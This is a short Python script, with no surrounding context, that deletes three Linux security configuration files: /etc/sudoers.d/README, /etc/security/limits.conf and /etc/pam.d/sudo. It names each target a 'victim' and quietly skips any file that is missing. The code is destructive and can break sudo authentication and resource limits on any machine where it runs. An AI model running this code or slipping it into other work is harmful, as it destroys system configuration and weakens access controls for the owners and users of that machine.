import os

for victim in ["/etc/sudoers.d/README", "/etc/security/limits.conf", "/etc/pam.d/sudo"]:
    try:
        os.unlink(victim)
        print("deleted", victim)
    except FileNotFoundError:
        pass
